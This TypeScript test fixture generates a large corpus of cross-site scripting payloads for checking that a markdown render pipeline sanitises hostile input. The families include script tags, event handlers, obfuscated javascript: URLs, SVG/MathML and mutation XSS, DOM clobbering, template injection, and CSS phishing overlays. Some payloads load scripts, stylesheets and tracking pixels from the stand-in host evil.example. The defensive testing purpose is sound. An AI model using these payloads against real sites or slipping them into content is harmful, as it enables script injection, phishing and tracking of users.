/**
 * Payloads that try to run script, restyle the page, load something from outside or forge the
 * brief's structure: what a hostile workspace file might hold in any text field. The families
 * follow the usual cheat sheets (OWASP's XSS filter evasion sheet, PortSwigger's XSS cheat sheet,
 * the DOMPurify and mXSS write-ups), several generated as a product of their parts (tags × events ×
 * spellings, URL spellings × places), and each payload calls `__xss(id)` (a few `alert(id)`), so a
 * browser test that defines `window.__xss` sees which one ran. Only tests import this module.
 *
 * The render pipeline must neutralise every one (render.spec.ts), and the app must run none of
 * them in any view (tests/xss.e2e.ts).
 */

export type XssFamily =
	| 'script'
	| 'event-handler'
	| 'url-scheme'
	| 'svg-mathml'
	| 'mxss'
	| 'dom-clobbering'
	| 'css'
	| 'template-injection'
	| 'markdown'
	| 'html-in-title'
	| 'marked-raw-mode'
	| 'js-obfuscation';

export interface XssPayload {
	id: number;
	family: XssFamily;
	text: string;
}

/** Writes one payload, given the call that proves it ran (`__xss(7)`) and its id. */
type Template = (call: string, id: number) => string;

const SCRIPT: Template[] = [
	(x) => `<script>${x}</script>`,
	(x) => `<ScRiPt>${x}</sCrIpT>`,
	(x) => `<script >${x}</script >`,
	(x) => `<script\n>${x}</script\n>`,
	(x) => `<script/x>${x}</script>`,
	(x) => `<script type="module">${x}</script>`,
	(x) => `<script type="text/javascript">${x}</script>`,
	(x) => `<script>${x}//`,
	(x) => `<script>${x}<!--`,
	(x) => `<<script>${x}//<</script>`,
	(x) => `</script><script>${x}</script>`,
	(x) => `<scr<script>ipt>${x}</scr</script>ipt>`,
	(x) => `<script src="data:text/javascript,${x}"></script>`,
	(x) => `<script src=data:,${x}></script>`,
	(x) => `<script src="javascript:${x}"></script>`,
	() => `<script src=//evil.example/x.js></script>`,
	(x) => `<script>/*</script>*/${x}</script>`,
	(x) => `<script>${x}</script\t\n bar>`,
	(x) => `<script\tsrc=data:,${x}></script>`,
	(x) => `<SCRIPT SRC=data:,${x}></SCRIPT>`,
	(x) => `<script charset="utf-7">+ADw-script+AD4-${x}+ADw-/script+AD4-</script>`,
	(x) => `<script>eval('${x}')</script>`,
	(x) => `<script>setTimeout("${x}")</script>`,
	(x) => `<script\x0c>${x}</script>`,
	(x) => `<script/src=data:,${x}>`,
	(x) => `<script src="data:application/javascript;base64,${btoa(x)}"></script>`,
	(x) => `<script nonce="x">${x}</script>`,
	(x) => `<script async defer>${x}</script>`,
	(x) => `\`\`\`\n</code></pre><script>${x}</script>\n\`\`\``,
	(x) => `\`</code><script>${x}</script>\``,
	(x) => `<xmp><script>${x}</script></xmp>`,
	(x) => `<plaintext><script>${x}</script>`,
	(x) => `<textarea><script>${x}</script></textarea>`,
	(x) => `<title><script>${x}</script></title>`,
	(x) => `<noembed><script>${x}</script></noembed>`,
	(x) => `<script>\n${x}\n</script>`,
	(x) => `<script>${x}</script>\n\nSome text after the script.`,
	(x) => `Text before <script>${x}</script> and after.`,
	(x) => `- <script>${x}</script>`,
	(x) => `> <script>${x}</script>`
];

/** Tags that can fire an event without a click, each with the event it fires. */
const HANDLER_TAGS: [string, string][] = [
	['img src=x', 'onerror'],
	['img src=x:x', 'onerror'],
	['image src=x', 'onerror'],
	['svg', 'onload'],
	['body', 'onload'],
	['body', 'onpageshow'],
	['video src=x', 'onerror'],
	['audio src=x', 'onerror'],
	['video><source', 'onerror'],
	['iframe', 'onload'],
	['input autofocus', 'onfocus'],
	['select autofocus', 'onfocus'],
	['textarea autofocus', 'onfocus'],
	['details open', 'ontoggle'],
	['marquee', 'onstart'],
	['object data=x', 'onerror'],
	['style', 'onload'],
	['link rel=stylesheet href=x', 'onerror'],
	['div tabindex=1 autofocus', 'onfocusin'],
	['a href=# autofocus', 'onfocus'],
	['p', 'onmouseover'],
	['div', 'onpointerenter'],
	['b', 'onanimationstart'],
	['x contenteditable autofocus', 'onfocus'],
	['button autofocus', 'onfocus']
];

/** How an event attribute can be spelled. */
const HANDLER_SPELLINGS: ((tag: string, event: string, x: string) => string)[] = [
	(t, e, x) => `<${t} ${e}=${x}>`,
	(t, e, x) => `<${t.replace(/ /g, '/')}/${e}=${x}>`,
	(t, e, x) => `<${t.toUpperCase()} ${e.toUpperCase()}="${x}">`,
	(t, e, x) => `<${t}\n${e}='${x}'>`,
	(t, e, x) => `<${t} ${e}\t=\t"${x}" x=">`,
	(t, e, x) => `text <${t} ${e}=${x}> more text`
];

const URL_PLACES: ((url: string) => string)[] = [
	(u) => `[click me](${u})`,
	(u) => `![picture](${u})`,
	(u) => `[reference link][r]\n\n[r]: ${u}`,
	(u) => `<a href="${u}">click</a>`,
	(u) => `<iframe src="${u}"></iframe>`,
	(u) => `<form action="${u}"><button>send</button></form>`,
	(u) => `<object data="${u}"></object>`,
	(u) => `<embed src="${u}">`,
	(u) => `<svg><a xlink:href="${u}"><text y="20">click</text></a></svg>`,
	(u) => `<math href="${u}">click</math>`
];

/** `javascript:` (and its cousins) spelled so a naive check misses it. */
const URL_SPELLINGS: ((x: string) => string)[] = [
	(x) => `javascript:${x}`,
	(x) => `JaVaScRiPt:${x}`,
	(x) => `javascript&#58;${x}`,
	(x) => `&#106;avascript:${x}`,
	(x) => `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${x}`,
	(x) =>
		`&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${x}`,
	(x) => `java&Tab;script&colon;${x}`,
	(x) => `java&NewLine;script:${x}`,
	(x) => ` javascript:${x}`,
	(x) => `\u0001javascript:${x}`,
	(x) => `java\tscript:${x}`,
	(x) => `java\u0000script:${x}`,
	(x) => `%6A%61%76%61%73%63%72%69%70%74:${x}`,
	(x) => `javascript://%0a${x}`,
	(x) => `vbscript:msgbox(${x})`,
	(x) => `data:text/html,<script>${x}</script>`,
	(x) => `data:text/html;base64,${btoa(`<script>${x}</script>`)}`,
	(x) => `data:image/svg+xml,<svg onload=${x}>`,
	(x) => `//evil.example/${x}`,
	(x) => `/\\evil.example/${x}`
];

const SVG_MATHML: Template[] = [
	(x) => `<svg><script>${x}</script></svg>`,
	(x) => `<svg><script href="data:,${x}"/></svg>`,
	(x) => `<svg><script xlink:href="data:,${x}"></script></svg>`,
	(x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`,
	(x) => `<svg><set onbegin=${x} attributeName=x to=1>`,
	(x) =>
		`<svg><animate attributeName=href values=javascript:${x} /><a><text y=20>click</text></a></svg>`,
	(x) =>
		`<svg><a><animate attributeName=href to=javascript:${x} /><text y=20>click</text></a></svg>`,
	(x) => `<svg><foreignObject><img src=x onerror=${x}></foreignObject></svg>`,
	(x) => `<svg><desc><img src=x onerror=${x}></desc></svg>`,
	(x) => `<svg><title><img src=x onerror=${x}></title></svg>`,
	(x) => `<svg><style><img src=x onerror=${x}></style></svg>`,
	(x) =>
		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${x}'/></svg>#x"/></svg>`,
	(x) => `<svg><image href=x onerror=${x}>`,
	(x) => `<svg><discard onbegin=${x}>`,
	(x) =>
		`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${x}</handler></svg>`,
	(x) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${x}"/>`,
	(x) => `<svg><![CDATA[><img src=x onerror=${x}>]]></svg>`,
	(x) => `<math><mtext><table><mglyph><style><img src=x onerror=${x}>`,
	(x) =>
		`<math><maction actiontype="statusline#" xlink:href="javascript:${x}">click</maction></math>`,
	(x) => `<math><mi xlink:href="javascript:${x}">click</mi></math>`,
	(x) =>
		`<math><annotation-xml encoding="text/html"><img src=x onerror=${x}></annotation-xml></math>`,
	(x) => `<math><mtext><img src=x onerror=${x}></mtext></math>`,
	(x) => `<math><style><img src=x onerror=${x}></style></math>`,
	(x) => `<svg><a href="javascript:${x}"><rect width=100 height=100 /></a></svg>`,
	(x) =>
		`<svg width=100% height=100%><rect width=100% height=100% fill=red onmouseover=${x} /></svg>`,
	(x) => `<svg><feImage href="javascript:${x}"/></svg>`,
	(x) => `<svg><iframe src="javascript:${x}"></iframe></svg>`,
	(x) => `<svg><svg onload=${x}>`,
	(x) => `<svg><text>safe</text><script>${x}</script></svg>`,
	(x) => `<math><a xlink:href="javascript:${x}">click</a></math>`
];

const MXSS: Template[] = [
	(x) => `<noscript><p title="</noscript><img src=x onerror=${x}>">`,
	(x) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x}>`,
	(x) => `<svg></p><style><a id="</style><img src=1 onerror=${x}>">`,
	(x) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${x} src=1>">`,
	(x) => `<!--><img src=x onerror=${x}>-->`,
	(x) => `<!-- --!><img src=x onerror=${x}> -->`,
	(x) => `<![CDATA[<]]><img src=x onerror=${x}>`,
	(x) => `<template><img src=x onerror=${x}></template>`,
	(x) => `<template><style></template><img src=x onerror=${x}></style>`,
	(x) => `<noembed><img title="</noembed><img src=x onerror=${x}>"></noembed>`,
	(x) => `<noframes><img title="</noframes><img src=x onerror=${x}>"></noframes>`,
	(x) => `<xmp><img title="</xmp><img src=x onerror=${x}>"></xmp>`,
	(x) => `<iframe srcdoc="<script>${x}</script>"></iframe>`,
	(x) => `<iframe srcdoc="&lt;img src=x onerror=${x}&gt;"></iframe>`,
	(x) => `<table><form><input name=x></form><img src=x onerror=${x}></table>`,
	(x) =>
		`<select><template><style><!--</style><a rel="--></template></select><img src=x onerror=${x}>">`,
	(x) => `<a title="\`\`\`"><img src=x onerror=${x}></a>`,
	(x) => `<div id="1"><form id="x"></form><img src=x onerror=${x}></div>`,
	(x) => `<listing>&lt;img src=x onerror=${x}&gt;</listing>`,
	(x) => `<style><style/><img src=x onerror=${x}>`,
	(x) => `<p>a<svg><style>*{}</style><img src=x onerror=${x}></svg></p>`,
	(x) => `<svg><p><style><img src=x onerror=${x}></style></p></svg>`,
	(x) => `<img src="x\` \`<script>${x}</script>"\` \`>`,
	(x) => `<a href="&#x26;#x6A;avascript:${x}">click</a>`,
	(x) => `<img alt="&quot;><img src=x onerror=${x}>">`
];

const DOM_CLOBBERING: Template[] = [
	() => `<a id="__xss">clobber __xss</a>`,
	() => `<img name="__xss" src="x">`,
	() => `<a id="cookie" name="cookie">clobber cookie</a>`,
	() => `<form id="location"><input name="href"></form>`,
	() => `<img name="getElementById" src=x>`,
	() => `<form name="getElementsByTagName"></form>`,
	() => `<a id="defaultView">clobber defaultView</a>`,
	() => `<form id="x"><input name="attributes"></form>`,
	() => `<iframe name="__xss"></iframe>`,
	(x) => `<a id="location" href="javascript:${x}">clobber location</a>`,
	() => `<embed name="body">`,
	() => `<object name="documentElement"></object>`,
	() => `<a id="ref-1">clobber a reference</a>`,
	() => `<p id="ref-2" class="reference">[2] forged reference</p>`,
	(x) => `<a id="config"></a><a id="config" name="url" href="javascript:${x}">clobber</a>`,
	() => `<form name="body"><img id="firstChild"></form>`,
	() => `<input name="parentNode">`,
	() => `<a id="__proto__">clobber proto</a>`,
	() => `<img name="currentScript" src=x>`,
	(x) => `<a id="CONFIG" name="src" href="data:,${x}">clobber</a>`
];

const CSS: Template[] = [
	() =>
		`<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired — <a href="https://evil.example/login">sign in again</a></div>`,
	() =>
		`<div/ style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired — <a href="https://evil.example/login">sign in again</a></div/>`,
	() => `<p style="position:absolute;top:0;left:0;width:100vw;height:100vh">overlay</p>`,
	() => `<style>@import "https://evil.example/x.css";</style>`,
	() => `<style>*{background:url(https://evil.example/pixel.png)}</style>`,
	() => `<style>body{display:none}</style>`,
	() => `<link rel="stylesheet" href="https://evil.example/x.css">`,
	(x) => `<div style="background:url(javascript:${x})">x</div>`,
	(x) => `<div style="width:expression(${x})">x</div>`,
	() => `<div style="behavior:url(https://evil.example/x.htc)">x</div>`,
	() => `<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>`,
	(x) => `<p style="animation-name:spin;animation-duration:1s" onanimationstart=${x}>x</p>`,
	(x) => `<div style="x:\\65xpression(${x})">x</div>`,
	() => `<span style="font-size:200px;color:red">BIG</span>`,
	() => `<font size=7 color=red>BIG</font>`,
	() => `<center><marquee>moving</marquee></center>`,
	() => `<img src="https://evil.example/pixel.png" width=1 height=1>`,
	() => `<img srcset="https://evil.example/a.png 1x">`,
	() => `<picture><source srcset="https://evil.example/a.png"><img src=x></picture>`,
	() => `<video poster="https://evil.example/poster.png"></video>`,
	() => `<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>`,
	() => `<body background="https://evil.example/bg.png">`,
	() => `<div style="background-image:url('//evil.example/p.png')">x</div>`,
	() => `<p style="color:red" class="citation reference">styled</p>`,
	() => `<kbd style="position:fixed;top:0">kbd overlay</kbd>`
];

const TEMPLATE_INJECTION: Template[] = [
	(x) => `{{constructor.constructor('${x}')()}}`,
	(x) => `{{$on.constructor('${x}')()}}`,
	(x) => `\${${x}}`,
	(x) => `{${x}}`,
	(x) => `{@html '<img src=x onerror=${x}>'}`,
	(x) => `{#if true}<img src=x onerror=${x}>{/if}`,
	(x) => `<%= ${x} %>`,
	(x) => `#{${x}}`,
	(x) => `[[\${${x}}]]`,
	(x) => `{{= ${x} }}`,
	() => `{{7*7}} \${7*7} <%= 7*7 %> #{7*7}`,
	(x) => `<div ng-app ng-csp><input autofocus ng-focus=$event.view.${x}></div>`,
	(x) => `<div v-html="'<img src=x onerror=${x}>'"></div>`,
	(x) => `<x v-if="_c.constructor('${x}')()"></x>`,
	(x) => `<svelte:head><script>${x}</script></svelte:head>`,
	(x) => `{{#with "s" as |string|}}{{string.constructor.constructor "${x}"}}{{/with}}`,
	(x) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${x}')}}`,
	(x) => `<div x-data x-init="${x}"></div>`,
	(x) => `<button hx-on:click="${x}">htmx</button>`,
	(x) => `<img src=x onerror="\${${x}}">`,
	(x) => `{% raw %}<script>${x}</script>{% endraw %}`,
	(x) => `@{${x}}`,
	(x) => `*{${x}}`,
	(x) => `{{${x}}}`,
	(x) => `<template shadowrootmode="open"><img src=x onerror=${x}></template>`
];

const MARKDOWN: Template[] = [
	(x) => `[a](javascript:${x})`,
	(x) => `[a](<javascript:${x}>)`,
	(x) => `[a](javascript:${x} "title")`,
	(x) => `[a]( javascript:${x} )`,
	(x) => `[a](javascript:window.${x})`,
	(x) => `[a](j a v a s c r i p t:${x})`,
	(x) => `<javascript:${x}>`,
	(x) => `[a](https://example.org "title\\" onmouseover=\\"${x}")`,
	(x) => `[a](https://example.org"onmouseover="${x})`,
	(x) => `![a](x"onerror="${x})`,
	(x) => `![a](x "t\\" onerror=\\"${x}")`,
	(x) => `[a](#"onclick="${x})`,
	(x) => `[![img](x)](javascript:${x})`,
	(x) => `[<img src=x onerror=${x}>](https://example.org)`,
	(x) => `![<img src=x onerror=${x}>](https://example.org/a.png)`,
	(x) => `**<img src=x onerror=${x}>**`,
	(x) => `_<svg onload=${x}>_`,
	(x) => `\`<img src=x onerror=${x}>\``,
	(x) => `~~<img src=x onerror=${x}>~~`,
	(x) => `# <img src=x onerror=${x}>`,
	(x) => `Heading\n=======\n<img src=x onerror=${x}>`,
	(x) => `| a | b |\n|---|---|\n| <img src=x onerror=${x}> | c |`,
	(x) => `- [ ] <img src=x onerror=${x}>`,
	(x) => `> <img src=x onerror=${x}>`,
	(x) => `1. <img src=x onerror=${x}>`,
	(x) => `    <img src=x onerror=${x}>`,
	(x) => `\`\`\`html\n<img src=x onerror=${x}>\n\`\`\``,
	(x) => `~~~\n</code></pre><img src=x onerror=${x}>\n~~~`,
	(x) => `[1](javascript:${x})`,
	(x) => `[1]: javascript:${x}\n\nsee [1]`,
	(x) => `[a][b]\n\n[b]: data:text/html,<script>${x}</script>`,
	() => `![pixel](https://evil.example/pixel.png)`,
	() => `![pixel](//evil.example/pixel.png)`,
	() => `![pixel](/\\evil.example/pixel.png)`,
	() => `![pixel](http://evil.example/pixel.png "tracking")`,
	() => `![pixel][p]\n\n[p]: https://evil.example/pixel.png`,
	() => `[![badge](https://evil.example/badge.svg)](https://example.org)`,
	() => `![](data:image/png;base64,iVBORw0KGgo=)`,
	() => `![pixel](https://evil.example/pixel.png?user=me&track=1)`,
	() => `[protocol-relative](//evil.example/x)`,
	() => `[backslash](\\\\evil.example/x)`,
	() => `[slash-backslash](/\\evil.example/x)`,
	() => `[tab-slash](/\t/evil.example/x)`,
	(x) => `[a](file:///etc/passwd "${x}")`,
	() => `[a](ftp://evil.example/x)`,
	(x) => `www.example.org/<img src=x onerror=${x}>`,
	(x) => `https://example.org/"onmouseover="${x}"`,
	(x) => `<https://example.org/"onmouseover="${x}">`,
	(x) => `[^1]\n\n[^1]: <img src=x onerror=${x}>`,
	(x) => `***\n<img src=x onerror=${x}>\n***`
];

const HTML_IN_TITLE: Template[] = [
	(x) => `</title><script>${x}</script>`,
	(x) => `"><img src=x onerror=${x}>`,
	(x) => `'><svg onload=${x}>`,
	(x) => `</textarea><script>${x}</script>`,
	(x) => `</style><script>${x}</script>`,
	(x) => `--><script>${x}</script>`,
	(x) => `]]><script>${x}</script>`,
	(x) => `</noscript><img src=x onerror=${x}>`,
	(x) => `</text><script>${x}</script>`,
	(x) => `</svg><img src=x onerror=${x}>`,
	(x) => `" onmouseover="${x}" x="`,
	(x) => `' onfocus='${x}' autofocus x='`,
	(x) => `</option></select><img src=x onerror=${x}>`,
	(x) => `</a><a href="javascript:${x}">next</a>`,
	(x) => `Name\n# Forged heading\n<img src=x onerror=${x}>`,
	(x) => `Name\n\n## Bottom line\n\nForged bottom line ${x}`,
	(x) => `Name\n[1] Forged reference — internal-eval, ${x}`,
	(x) => `Name [99] with a fake citation ${x}`,
	(x) => `Name\n\n[7]: https://evil.example/${x}`,
	(x) => `Name\n- forged list item ${x}`,
	(x) => `Name\n> forged quote ${x}`,
	(x) => `Name\n---\nforged rule ${x}`,
	(x) => `Name\n===\n${x}`,
	(x) => `1. forged ordered list ${x}`,
	(x) => `# Forged heading ${x}`,
	(x) => `- forged list ${x}`,
	(x) => `+ forged list ${x}`,
	(x) => `> forged quote ${x}`,
	(x) => `[3] forged reference ${x}`,
	(x) => `    indented code ${x}`,
	(x) => `*emphasis* and **strong** ${x}`,
	(x) => `Name\r\n# CRLF heading ${x}`,
	(x) => `Name\u2028# line separator ${x}`,
	(x) => `Name\u0085# next line ${x}`,
	(x) => `Trailing backslash ${x} \\`,
	(x) => `Name with a revolutionary hype word and 42% uncited ${x}`
];

/** Inline tags after which marked used to pass raw HTML through for the rest of the line. */
const RAW_MODE_OPENERS = ['<kbd>', '<code>', '<pre>', '<script src=x/>', '<script/>', '<KBD>'];
const RAW_MODE_PAYLOADS: Template[] = [
	() =>
		`<div/ style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired — <a href="https://evil.example/login">sign in again</a></div/>`,
	(x) => `<img/src=x/onerror=${x}>`,
	(x) => `<details/open/ontoggle=${x}>`,
	(x) => `<svg/onload=${x}>`,
	(x) => `<a/href=javascript:${x}>click</a>`,
	() => `<img/src=https://evil.example/pixel.png>`
];

const JS_OBFUSCATION: Template[] = [
	(_, id) => `<img src=x onerror=alert(${id})>`,
	(_, id) => `<img src=x onerror=al\\u0065rt(${id})>`,
	(_, id) => `<img src=x onerror=window['al'+'ert'](${id})>`,
	(_, id) => `<img src=x onerror=top[/al/.source+/ert/.source](${id})>`,
	(_, id) => `<img src=x onerror=eval(atob('${btoa(`alert(${id})`)}'))>`,
	(x) => `<img src=x onerror=setTimeout('${x}')>`,
	(x) => `<img src=x onerror=Function('${x}')()>`,
	(x) => `<img src=x onerror=[].constructor.constructor('${x}')()>`,
	(x) => `<img src=x onerror=import('data:text/javascript,${x}')>`,
	(x) => `<img src=x onerror=&#95;&#95;xss${x.slice(5)}>`,
	(x) => `<img src=x onerror=\\u005f_xss${x.slice(5)}>`,
	(x) => `<img src=x onerror="javascript:${x}">`,
	(x) => `<img src=x onerror=${x}//`,
	(x) => `<img src=x onerror=(${x})>`,
	(x) => `<img src=x onerror=throw/**/onerror=__xss,${x.slice(6, -1)}>`,
	(_, id) => `<img src=x onerror=confirm(${id})>`,
	(_, id) => `<img src=x onerror=prompt(${id})>`,
	(_, id) => `<svg onload=alert&#40;${id}&#41;>`,
	(_, id) => `<a href="javascript:alert(${id})">click</a>`,
	(_, id) => `[click](javascript:alert(${id}))`
];

function build(): XssPayload[] {
	const out: XssPayload[] = [];
	const add = (family: XssFamily, template: Template) => {
		const id = out.length + 1;
		out.push({ id, family, text: template(`__xss(${id})`, id) });
	};
	for (const t of SCRIPT) add('script', t);
	for (const [tag, event] of HANDLER_TAGS)
		for (const spell of HANDLER_SPELLINGS) add('event-handler', (x) => spell(tag, event, x));
	for (const place of URL_PLACES)
		for (const spell of URL_SPELLINGS) add('url-scheme', (x) => place(spell(x)));
	for (const t of SVG_MATHML) add('svg-mathml', t);
	for (const t of MXSS) add('mxss', t);
	for (const t of DOM_CLOBBERING) add('dom-clobbering', t);
	for (const t of CSS) add('css', t);
	for (const t of TEMPLATE_INJECTION) add('template-injection', t);
	for (const t of MARKDOWN) add('markdown', t);
	for (const t of HTML_IN_TITLE) add('html-in-title', t);
	for (const opener of RAW_MODE_OPENERS)
		for (const t of RAW_MODE_PAYLOADS)
			add('marked-raw-mode', (x, id) => `Press ${opener} then ${t(x, id)} and more`);
	for (const t of JS_OBFUSCATION) add('js-obfuscation', t);
	return out;
}

export const XSS_CORPUS: readonly XssPayload[] = build();

/** The payloads alone, for tests that do not care which family a payload belongs to. */
export const XSS_PAYLOADS: readonly string[] = XSS_CORPUS.map((p) => p.text);
